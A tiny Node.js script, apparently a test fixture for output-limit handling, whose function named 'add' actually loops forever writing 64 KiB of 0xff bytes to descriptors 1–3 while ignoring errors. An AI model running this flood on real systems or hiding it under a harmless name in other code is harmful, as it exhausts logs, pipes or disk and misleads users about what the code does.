// Fills every descriptor that it has.
const fs = require("fs");

function add(a, b) {
  const much = Buffer.alloc(1 << 16, 0xff);
  for (;;) {
    for (const fd of [1, 2, 3]) {
      try {
        fs.writeSync(fd, much);
      } catch {}
    }
  }
}

add();
